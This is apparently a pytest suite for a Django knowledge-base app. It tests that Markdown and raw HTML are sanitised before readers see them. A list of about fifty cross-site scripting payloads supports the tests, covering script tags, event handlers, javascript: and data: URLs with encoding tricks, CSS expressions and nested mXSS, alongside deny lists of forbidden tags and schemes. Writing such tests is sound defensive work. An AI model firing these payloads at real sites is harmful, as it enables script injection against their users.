"""The body is sanitised on save: no script, event handler, style or javascript:/data: URL
survives, whether it comes through Markdown or as raw HTML."""

import html
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from apps.knowledge.content import render, sanitize

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math",
    "meta", "base", "link", "body", "html", "details", "video", "audio", "source", "frame",
    "frameset", "textarea", "select", "template", "noscript",
}  # fmt: skip
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"\nonerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="/x" id="csrfmiddlewaretoken">clobber</a>',
    '<h2 id="main" onclick="alert(1)">x</h2>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[ref]: javascript:alert(1)\n\n[x][ref]",
    "## heading {onclick=alert(1)}",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def problems(fragment: str) -> list[str]:
    parser = Elements()
    parser.feed(fragment)
    parser.close()
    found = []
    for tag, attrs in parser.found:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name == "style":
                found.append(f"{tag}[style]")
            if name == "id" and not value.startswith("sec-"):
                found.append(f"{tag}[id={value}]")
            if name in {"href", "src", "action", "data", "formaction", "xlink:href"}:
                url = "".join(html.unescape(value).split()).lower()
                if url.startswith(FORBIDDEN_SCHEMES):
                    found.append(f"{tag}[{name}={value}]")
    return found


def test_there_are_enough_payloads_and_the_checker_sees_them():
    assert len(PAYLOADS) >= 25
    # Unsanitised, the raw HTML payloads are caught by the checker these tests rely on.
    raw = [payload for payload in PAYLOADS if payload.startswith("<")]
    caught = [payload for payload in raw if problems(payload)]
    assert len(caught) >= len(raw) - 3, set(raw) - set(caught)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_payloads_are_rendered_harmless(payload):
    rendered = render(f"ข้อความก่อน\n\n{payload}\n\nข้อความหลัง")
    assert problems(rendered.html) == [], rendered.html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_stops_raw_html_payloads(payload):
    # Even if the renderer ever let raw HTML through, the allow-list would stop it.
    assert problems(sanitize(payload)) == [], sanitize(payload)


def test_ordinary_markdown_keeps_its_shape():
    rendered = render(
        "# หัวเรื่อง\n\n## ขั้นตอน\n\n1. หนึ่ง\n2. สอง\n\n**ตัวหนา** [ลิงก์](https://example.org) "
        "[ภายใน](/library/)\n\n| ก | ข |\n|---|---|\n| 1 | 2 |\n\n![ภาพ](/static/img/favicon.svg)"
    )
    assert '<h1 id="sec-1">หัวเรื่อง</h1>' in rendered.html
    assert '<h2 id="sec-2">ขั้นตอน</h2>' in rendered.html
    assert "<ol>" in rendered.html and "<strong>ตัวหนา</strong>" in rendered.html
    assert 'href="https://example.org"' in rendered.html and 'href="/library/"' in rendered.html
    assert 'rel="noopener noreferrer nofollow"' in rendered.html
    assert "<table>" in rendered.html and '<img src="/static/img/favicon.svg" alt="ภาพ">' in (
        rendered.html
    )
    assert rendered.toc == [
        {"level": 1, "text": "หัวเรื่อง", "id": "sec-1"},
        {"level": 2, "text": "ขั้นตอน", "id": "sec-2"},
    ]


def test_script_typed_as_text_stays_visible_text():
    rendered = render("ตัวอย่าง <script>alert(1)</script>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered.html
    assert "<script" not in rendered.html


@pytest.mark.django_db
def test_a_saved_body_is_sanitised_before_any_reader_sees_it(client_as, people):
    payload = "\n\n".join(PAYLOADS)
    client = client_as("member")
    response = client.post(
        reverse("knowledge:create") + "?kind=how_to",
        {
            "title": "ชุดความรู้ทดสอบ",
            "kind": "how_to",
            "body": payload,
            "authors": [people["member"].pk],
        },
    )
    assert response.status_code == 302
    from apps.knowledge.models import KnowledgeSet

    knowledge_set = KnowledgeSet.objects.get()
    assert knowledge_set.body == payload  # the author's Markdown is kept as written
    assert problems(knowledge_set.body_html) == []
    page = client.get(knowledge_set.get_absolute_url()).content.decode()
    article = page.split('<article class="km-body', 1)[1].split("</article>", 1)[0]
    assert problems("<article " + article) == []


@pytest.mark.django_db
def test_the_preview_renders_exactly_like_saving(client_as):
    client = client_as("member")
    response = client.post(reverse("knowledge:preview"), {"body": "## หัวข้อ\n\n" + PAYLOADS[2]})
    assert response.status_code == 200
    data = response.json()
    assert problems(data["html"]) == []
    assert data["toc"] == [{"level": 2, "text": "หัวข้อ", "id": "sec-1"}]
